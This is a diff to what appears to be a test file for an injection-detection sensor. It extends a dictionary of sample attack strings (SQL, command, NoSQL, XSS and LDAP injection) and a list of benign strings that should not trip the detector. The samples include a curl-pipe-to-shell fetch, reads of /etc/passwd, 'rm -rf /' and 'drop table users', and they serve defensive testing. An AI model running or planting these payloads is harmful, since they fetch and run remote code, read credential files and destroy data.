@@ -17,7 +17,8 @@ from sensor.detection.injection.prefilter import has_trigger
 from sensor.detection.injection.rules import RULES
 
 ATTACKS = {
-    "sqli": ["1' or '1'='1", "5) union all select null,version()--", "x'; drop table users--", "admin'--",
+    "sqli": ["unistr(password)::int", "1.e(ascii 1.e(substring(1))", "42<=>42", "a'or?--", "6 as\" from",
+             "1' or '1'='1", "5) union all select null,version()--", "x'; drop table users--", "admin'--",
              "upper(", "AND deleted = 0)", ") AS t FROM", "; insert into", "'select p", "xor 2 <", "x'+email--",
              "11!=12", "'1' not regexp '2'", "OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'", "DR/**/OP/**/sampletable",
              "case when 1 then 2", "in (1,2)",
@@ -26,7 +27,9 @@ ATTACKS = {
     "nosql": ['{"$ne":1', "username[$ne]=x", "'; return true; var a='"],
     "cmdi": ["8.8.8.8; cat /etc/passwd", "a|id", "$(curl http://e.test/x|sh)", "`wget e.test`", "& net user",
              "time curl e.test", "find / -name x; /bin/sh", "if /i exist c:\\x echo y",
-             "ti''me sh -c whoami", "\\ls", "';htop'", "() {", "c$_at+/et$_c/pas$_swd", "alias ls='id'"],
+             "ti''me sh -c whoami", "\\ls", "';htop'", "() {", "c$_at+/et$_c/pas$_swd", "alias ls='id'",
+             "{l,-lh}s", "ping$() 127.0.0.1", "/usr/[a-z]in/bash",
+             "id; rm -rf /; Some words follow one another here"],
     "xss": ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(document.cookie)",
             "<svg/onload=confirm`1`>"],
     "ldap": ["*)(uid=*))(|(uid=*", "admin)(&(objectClass=*)"],
@@ -57,6 +60,9 @@ QUIET = [
     "2026-11-21T10:00:00+01:00", "+49 30 123456", "user@example.com", "img/logo.png", "../img/a.png",
     "Use `SELECT * FROM users WHERE id = 1` and tell me why it is slow, the table has many rows",
     "To see the log please run `tail -f /var/log/app.log` on the host and paste the last few lines here",
+    'Added "&&" and "||" aliases for "and" and "or" thanks to Vern', "u. The `declare -a' and `declare",
+    "- Ignore require-virtualenv in ``pip list`` (`#8603 <https://github.co", "* update-rc.d, invoke-rc.d",
+    "(?i)b makes it match as if /i were given", '- Added --user flag as shortcut for --install-option="--user". ',
     "THIS SOFTWARE IS PROVIDED ``AS IS'', WITHOUT WARRANTY", "See the file `MAILING-LIST' for information",
     "Header files for extensions go into /usr/include/python3.11/.", "Replace special characters \"&\", \"<\" and",
     "Import a module; handle errors; return", "* If eval_str is true, eval()", "Like quote(), but accepts a bytes",
